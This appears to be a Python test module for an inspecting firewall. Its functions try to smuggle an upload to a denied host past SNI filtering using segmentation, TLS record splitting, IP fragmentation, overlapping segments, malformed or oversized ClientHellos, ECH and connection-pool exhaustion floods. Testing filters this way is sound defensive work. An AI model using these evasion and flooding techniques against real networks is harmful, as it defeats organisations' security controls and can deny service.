"""TLS and HTTP attacks: a denied name's data sent to a shared CDN address
(attested by DNS for an allowed map-tile name) in the ways an inspecting
firewall may not follow. Each function takes the kit's Context and returns
the attack's report (see kit.py)."""

import os
import socket
import struct
import time

import tls_craft
from netio import TCP, fragments, kernel_tcp_exchange
from tcp_raw import MSS, RawTcp
from tls_craft import MemTls, http_status, kernel_tls_exchange, upload_request

BODY = b"flightlog=" + os.urandom(600).hex().encode()  # what a leaky app uploads



def _closed_with_hello(conn):
    """Closes CONN; its report, with whether the server answered with a TLS
    ServerHello (the held ClientHello was released to it)."""
    data = bytes(conn.server_data)
    result = dict(conn.report(), server_hello=len(data) > 5 and data[0] == 0x16 and data[5] == 0x02)
    conn.close()
    return result


def _finish_tls(conn, tls, offset, request, deadline, quiet=2.5):
    """After the first flight went out (`offset` stream bytes), answers the
    server until the handshake is done, sends `request` and reads the status.
    Stops at a reset, at `deadline`, or after `quiet` s without a reply."""
    consumed, sent_request, app, status = 0, False, b"", None
    last_news = time.monotonic()
    while time.monotonic() < deadline and not conn.reset:
        conn.poll(0.1, until=lambda c: len(c.server_data) > consumed or c.reset or c.fin)
        if len(conn.server_data) > consumed:
            last_news = time.monotonic()
            data = bytes(conn.server_data[consumed:])
            consumed = len(conn.server_data)
            out = tls.feed(data)
            if out:
                conn.send_stream(out, offset, timeout=1.0)
                offset += len(out)
            if sent_request:
                app += tls.read()
                status = http_status(app)
                if status is not None:
                    break
        if tls.done and not sent_request:
            out = tls.write(request)
            conn.send_stream(out, offset, timeout=1.5)
            offset += len(out)
            sent_request = True
        if tls.error or conn.fin or time.monotonic() - last_news > quiet:
            break
    return {"tls_handshake": tls.done, "tls_error": tls.error, "request_sent": sent_request,
            "http_status": status}


def _raw_conn(ctx, index=0, dport=443, dst=None):
    return RawTcp(ctx.link(), ctx.src, dst or ctx.shared, ctx.rport(index), dport)


def _raw_tls(ctx, name, first_flight, sni=None, alpn=None, timeout=5.0):
    """A real OpenSSL handshake (SNI: the denied name) whose first flight is
    sent by first_flight(conn, ch) -> (stream bytes, description), then an
    HTTPS upload to the denied name."""
    conn = _raw_conn(ctx)
    deadline = time.monotonic() + timeout
    report = ctx.report(name, [ctx.flow("tcp", conn.sport, conn.dst, 443)])
    if not conn.connect():
        report["result"] = dict(conn.report(), error="no SYN-ACK")
        return report
    tls = MemTls(sni or ctx.denied, alpn)
    ch = tls.client_hello()
    offset, sent = first_flight(conn, ch)
    report["sent"] = dict(sent, client_hello_bytes=len(ch))
    result = _finish_tls(conn, tls, offset, upload_request(ctx.denied, BODY), deadline)
    report["result"] = dict(conn.report(), **result)
    conn.close()
    return report


def _one_segment(conn, ch):
    conn.send_at(0, ch)
    return len(ch), {"how": "one segment"}


def tls_denied_sni(ctx):
    """Baseline: a plain ClientHello naming the denied host."""
    return _raw_tls(ctx, "tls-denied-sni", _one_segment)


def tls_tcp_1byte(ctx):
    """The ClientHello in 1-byte TCP segments, sent back to back."""
    def send(conn, ch):
        for i in range(len(ch)):
            conn.send_at(i, ch[i:i + 1])
        return len(ch), {"how": "1-byte TCP segments", "segments": len(ch)}
    return _raw_tls(ctx, "tls-tcp-1byte", send)


def tls_records_1byte(ctx):
    """The ClientHello re-cut into TLS records of one handshake byte each."""
    def send(conn, ch):
        cut = tls_craft.recut(ch, [1])
        for pos in range(0, len(cut), MSS):
            conn.send_at(pos, cut[pos:pos + MSS])
        return len(cut), {"how": "1-byte TLS records", "records": len(cut) // 6,
                          "stream_bytes": len(cut)}
    return _raw_tls(ctx, "tls-records-1byte", send)


def tls_multirecord(ctx):
    """The ClientHello in two TLS records, the boundary inside the name."""
    def send(conn, ch):
        hs, _ = tls_craft.handshake_of(ch)
        split = hs.find(ctx.denied.encode()) + 5
        cut = tls_craft.recut(ch, [split, 16384])
        conn.send_at(0, cut)
        return len(cut), {"how": "two TLS records split inside the SNI", "split_at": split}
    return _raw_tls(ctx, "tls-multirecord", send)


def tls_out_of_order(ctx):
    """The second half of the ClientHello first, then the first half."""
    def send(conn, ch):
        half = len(ch) // 2
        conn.send_at(half, ch[half:])
        conn.poll(0.2)
        conn.send_at(0, ch[:half])
        return len(ch), {"how": "second half first", "half": half}
    return _raw_tls(ctx, "tls-out-of-order", send)


def tls_ip_fragments(ctx):
    """The ClientHello segment in IP fragments, the name split between the
    second and the third. Over IPv4 the first fragment holds only part of
    the TCP header (a tiny fragment); IPv6 forbids that (RFC 7112), so there
    it holds the TCP header and the ClientHello's first bytes."""
    def send(conn, ch):
        packet = conn.segment_bytes(0, ch)
        l4 = packet[40:] if ctx.v6 else packet[20:]
        name_at = 20 + ch.find(ctx.denied.encode())
        cuts = [24 if ctx.v6 else 16, (name_at + 8) // 8 * 8]
        ident = int.from_bytes(os.urandom(2), "big") | 1
        for frag in fragments(conn.src, conn.dst, TCP, l4, cuts, ident=ident):
            conn.link.send(frag)
        return len(ch), {"how": "IP fragments", "cuts": cuts, "ip_id": ident}
    return _raw_tls(ctx, "tls-ip-fragments", send)


def tls_retransmit_after_deny(ctx):
    """The denied ClientHello, then, after the firewall's answer, the same
    segment again (same sequence numbers), as TCP would retransmit it."""
    def send(conn, ch):
        conn.send_at(0, ch)
        conn.poll(1.0, until=lambda c: c.reset or len(c.server_data) > 0)
        first = {"reset_after_first": conn.reset, "server_bytes_after_first": len(conn.server_data)}
        conn.reset = False  # watch what the retransmission gets
        conn.send_at(0, ch)
        conn.poll(0.3)
        return len(ch), dict(first, how="same segment sent twice")
    return _raw_tls(ctx, "tls-retransmit-after-deny", send)


def _hand_made_exchange(ctx, name, segments, timeout=3.0):
    """Sends hand-made ClientHello segments [(offset, bytes, bad_checksum)]
    and waits for the server's answer (a ServerHello means it was read)."""
    conn = _raw_conn(ctx)
    report = ctx.report(name, [ctx.flow("tcp", conn.sport, conn.dst, 443)])
    if not conn.connect():
        report["result"] = dict(conn.report(), error="no SYN-ACK")
        return report
    for offset, data, bad in segments:
        conn.send_at(offset, data, bad_checksum=bad)
    conn.poll(timeout, until=lambda c: c.reset or len(c.server_data) > 0)
    conn.poll(0.2)
    report["result"] = _closed_with_hello(conn)
    return report


def tls_partial_then_ack(ctx):
    """The ClientHello's first 400 bytes (no name in them yet: the SNI is
    last), then bare ACKs and a window update, then a pause, then the rest
    naming the denied host. A firewall that releases held bytes on the
    flow's next allowed packet would let the first part through on an ACK
    before the name was ever read."""
    ch = tls_craft.build_client_hello(ctx.denied, total_length=512, sni_last=True)
    assert ch.find(ctx.denied.encode()) > 400
    conn = _raw_conn(ctx)
    report = ctx.report("tls-partial-then-ack", [ctx.flow("tcp", conn.sport, conn.dst, 443)])
    if not conn.connect():
        report["result"] = dict(conn.report(), error="no SYN-ACK")
        return report
    conn.send_at(0, ch[:400])
    for _ in range(3):
        conn.send_at(400, b"", flags=0)  # a bare ACK at the stream's end
        conn.poll(0.15)
    conn.poll(0.5, until=lambda c: c.reset or len(c.server_data) > 0)
    conn.send_at(400, ch[400:])
    conn.poll(1.0, until=lambda c: c.reset or len(c.server_data) > 0)
    report["sent"] = {"how": "400 bytes without the name, bare ACKs, then the rest",
                      "client_hello_bytes": len(ch)}
    report["result"] = _closed_with_hello(conn)
    return report


def tls_overlap(ctx, bad_checksum=False):
    """Two ClientHellos of equal length and layout, naming an allowed and the
    denied host: the allowed one's bytes, then a conflicting "retransmission"
    of the same sequence range with the denied name, then the common tail.
    With bad_checksum the allowed copy is one the server discards."""
    allowed = tls_craft.build_client_hello(ctx.allowed, total_length=512, sni_last=True)
    denied = tls_craft.build_client_hello(ctx.denied, total_length=512, sni_last=True)
    tail = 4  # ".com", the same in both names
    assert allowed[-tail:] == denied[-tail:] and len(allowed) == len(denied)
    segments = [(0, allowed[:-tail], bad_checksum), (0, denied[:-tail], False),
                (len(denied) - tail, denied[-tail:], False)]
    name = "tls-overlap-badsum" if bad_checksum else "tls-overlap"
    report = _hand_made_exchange(ctx, name, segments)
    report["sent"] = {"how": "allowed bytes, then the denied bytes at the same sequence numbers",
                      "first_copy_bad_checksum": bad_checksum, "client_hello_bytes": len(denied)}
    return report


def tls_overlap_badsum(ctx):
    """tls-overlap whose allowed copy has a bad TCP checksum: the server
    discards it and reads the denied one."""
    return tls_overlap(ctx, bad_checksum=True)


def tls_malformed(ctx):
    """A ClientHello naming the denied host whose server_name list length
    overruns its extension: a parser must refuse it, not skip it."""
    ch = bytearray(tls_craft.build_client_hello(ctx.denied))
    at = ch.find(ctx.denied.encode()) - 5  # server_name_list length field
    ch[at:at + 2] = (int.from_bytes(ch[at:at + 2], "big") + 40).to_bytes(2, "big")
    report = _hand_made_exchange(ctx, "tls-malformed", [(0, bytes(ch), False)])
    report["sent"] = {"how": "server_name list length 40 bytes too long",
                      "client_hello_bytes": len(ch)}
    return report


def tls_too_large(ctx):
    """A ClientHello over 64 KiB (padding) naming the denied host."""
    ch = tls_craft.build_client_hello(ctx.denied, total_length=65600)
    conn = _raw_conn(ctx)
    report = ctx.report("tls-too-large", [ctx.flow("tcp", conn.sport, conn.dst, 443)])
    report["sent"] = {"client_hello_bytes": len(ch), "records": len(ch) // 16389 + 1}
    if not conn.connect():
        report["result"] = dict(conn.report(), error="no SYN-ACK")
        return report
    conn.send_stream(ch, 0, timeout=3.0)
    conn.poll(1.5, until=lambda c: c.reset or len(c.server_data) > 0)
    report["result"] = _closed_with_hello(conn)
    return report


def opaque_on_443(ctx):
    """Bytes that are neither TLS nor HTTP to the shared address's port 443
    (an app's own framing, the denied name and data inside)."""
    sport = ctx.kport(0)
    report = ctx.report("opaque-on-443", [ctx.flow("tcp", sport, ctx.shared, 443)])
    payload = b"FWX1" + ('{"to":"%s","data":"' % ctx.denied).encode() + BODY + b'"}'
    report["sent"] = {"bytes": len(payload), "how": "custom framing on TCP 443"}
    report["result"] = _kernel_plain(ctx, sport, 443, payload, timeout=2.0)
    return report


def tls_ech(ctx):
    """A ClientHello with an allowed outer SNI and an encrypted_client_hello
    extension (the inner, encrypted hello could name anything)."""
    ch = tls_craft.build_client_hello(ctx.allowed, extra=[tls_craft.ech_extension()])
    report = _hand_made_exchange(ctx, "tls-ech", [(0, ch, False)])
    report["sent"] = {"outer_sni": ctx.allowed, "ech_extension": "0xfe0d",
                      "client_hello_bytes": len(ch)}
    return report


def _kernel_tls(ctx, name, sni, host, alpn=None, index=0, body=BODY):
    sport = ctx.kport(index)
    report = ctx.report(name, [ctx.flow("tcp", sport, ctx.shared, 443)])
    request = upload_request(host, body)
    report["sent"] = {"sni": sni, "host_header": host, "upload_bytes": len(body),
                      "alpn_values": len(alpn or [])}
    report["result"] = kernel_tls_exchange(ctx.src, ctx.shared, sport, sni, request, alpn)
    return report


def tls_no_sni_http_host(ctx):
    """TLS without SNI to the shared address (the server's default
    certificate answers), then HTTP naming the denied host inside."""
    return _kernel_tls(ctx, "tls-no-sni-http-host", None, ctx.denied)


def tls_oversize(ctx):
    """An ~18 KB ClientHello (hundreds of ALPN values) naming the denied host."""
    report = _kernel_tls(ctx, "tls-oversize", ctx.denied, ctx.denied, tls_craft.many_alpn())
    report["sent"]["client_hello_bytes"] = len(MemTls(ctx.denied, tls_craft.many_alpn())
                                               .client_hello())
    return report


def tls_legit_oversize(ctx):
    """Legitimate: an ~18 KB ClientHello naming an allowed host fetches a tile."""
    sport = ctx.kport(0)
    report = ctx.report("legit-tls-oversize", [ctx.flow("tcp", sport, ctx.shared, 443)])
    request = ("GET /v4/mapbox.satellite/1/0/0.png HTTP/1.1\r\nHost: %s\r\n"
               "Connection: close\r\n\r\n" % ctx.allowed).encode()
    alpn = tls_craft.many_alpn()
    report["sent"] = {"sni": ctx.allowed, "client_hello_bytes":
                      len(MemTls(ctx.allowed, alpn).client_hello())}
    report["result"] = kernel_tls_exchange(ctx.src, ctx.shared, sport, ctx.allowed, request, alpn)
    return report


def hold_partial(ctx, dst, dport, first_bytes, count, start_index=1):
    """`count` kernel TCP connections, each sending only `first_bytes`.
    Returns (sockets, how many connected). The next flow needs no wait: the
    gateway's one NFQUEUE hands the daemon these packets before its own."""
    family = socket.AF_INET6 if ctx.v6 else socket.AF_INET
    socks, connected = [], 0
    deadline = time.monotonic() + max(5.0, count * 0.05)
    for i in range(count):
        if time.monotonic() > deadline:
            break
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.settimeout(1.0)
        try:
            s.bind((ctx.src, ctx.kport(start_index + i)))
            s.connect((dst, dport))
            s.sendall(first_bytes)
            connected += 1
        except OSError:
            pass
        socks.append(s)
    return socks, connected


def release(socks):
    """Closes with a reset (SO_LINGER 0), so a firewall sees each end."""
    for s in socks:
        try:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            s.close()
        except OSError:
            pass


def _holders_then_denied(ctx, name, holder_bytes):
    """ctx.holders kernel connections that each send `holder_bytes` and stay
    open, then an HTTPS upload naming the denied host on one more."""
    socks, connected = hold_partial(ctx, ctx.shared, 443, holder_bytes, ctx.holders)
    report = _kernel_tls(ctx, name, ctx.denied, ctx.denied, index=0)
    report["sent"].update({"holders": ctx.holders, "holders_connected": connected,
                           "holder_bytes": len(holder_bytes)})
    report["holders"] = [ctx.flow("tcp", ctx.kport(1), ctx.shared, 443, last=ctx.kport(ctx.holders))]
    release(socks)
    return report


def tls_pool_exhaustion(ctx):
    """Hundreds of connections that sent only the start of a ClientHello
    (every TLS stream buffer busy), then an HTTPS upload naming the denied
    host on one more connection."""
    return _holders_then_denied(ctx, "tls-pool-exhaustion",
                                tls_craft.build_client_hello(None)[:64])


def tls_denied_flood(ctx):
    """Connections that each send a whole ClientHello naming the denied host
    and are reset by the firewall, so their end is never seen: decided
    flows, yet each once kept its inspection slot until its idle timeout
    (an hour), and a burst of them had every allowed newcomer denied
    pool-exhausted. Then an HTTPS upload naming the denied host on one more
    connection, which must be judged by its name."""
    return _holders_then_denied(ctx, "tls-denied-flood", tls_craft.build_client_hello(ctx.denied))


def http_no_host(ctx):
    """Plain HTTP to the shared address without a Host header."""
    sport = ctx.kport(0)
    report = ctx.report("http-no-host", [ctx.flow("tcp", sport, ctx.shared, 80)])
    request = ("POST /upload HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(BODY)).encode() + BODY
    report["sent"] = {"request": "POST /upload HTTP/1.0 without Host", "bytes": len(request)}
    report["result"] = _kernel_plain(ctx, sport, 80, request)
    return report


def _kernel_plain(ctx, sport, dport, request, timeout=3.0):
    """Sends request bytes on a kernel TCP connection; reports the answer."""
    result, data = kernel_tcp_exchange(ctx.src, sport, ctx.shared, dport, request, timeout=timeout)
    result["server_bytes"] = len(data)
    result["http_status"] = http_status(data)
    return result


def http_retransmit_after_deny(ctx):
    """HTTP naming the denied host (denied), then the same segment again and
    the request's next bytes, as a retransmitting client would."""
    conn = _raw_conn(ctx, dport=80)
    report = ctx.report("http-retransmit-after-deny", [ctx.flow("tcp", conn.sport, conn.dst, 80)])
    request = upload_request(ctx.denied, BODY)
    head = request[:request.index(b"\r\n\r\n") + 4]
    if not conn.connect():
        report["result"] = dict(conn.report(), error="no SYN-ACK")
        return report
    conn.send_at(0, head)
    conn.poll(1.0, until=lambda c: c.reset or c.acked > 0)
    first = {"reset_after_first": conn.reset, "acked_after_first": conn.acked}
    conn.reset = False
    conn.send_at(0, head)
    conn.send_at(len(head), request[len(head):len(head) + MSS])
    conn.poll(1.0, until=lambda c: len(c.server_data) > 0)
    report["sent"] = dict(first, how="same HTTP head twice, then the body")
    report["result"] = dict(conn.report(), http_status=http_status(bytes(conn.server_data)))
    conn.close()
    return report
